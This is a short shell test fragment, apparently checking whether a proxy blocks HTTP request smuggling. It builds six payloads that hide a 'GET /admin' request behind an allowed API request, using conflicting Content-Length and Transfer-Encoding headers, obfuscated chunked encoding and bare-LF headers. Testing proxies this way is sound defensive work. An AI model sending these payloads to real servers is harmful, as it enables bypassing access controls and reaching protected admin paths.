# A second request hidden behind an allowed one: in its body by every disagreement about where that ends, or just behind it.
inner="GET /admin HTTP/1.1\\r\\nHost: $RO\\r\\nConnection: close\\r\\n\\r\\n"
head="GET /api/x HTTP/1.1\\r\\nHost: $RO\\r\\n"
set --
for s in "\\r\\n$inner" "Content-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n$inner" "Content-Length: 0\\r\\nContent-Length: 5\\r\\n\\r\\n$inner" "Transfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n$inner" "Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n$inner" "X: y\\n\\r\\n$inner"; do
  set -- "$@" "{\"connect\":\"$RO:443\",\"sni\":\"$RO\",\"send\":\"$head$s\"}"
done
seen "$(rawreq "$@")" 'PATH:/admin'
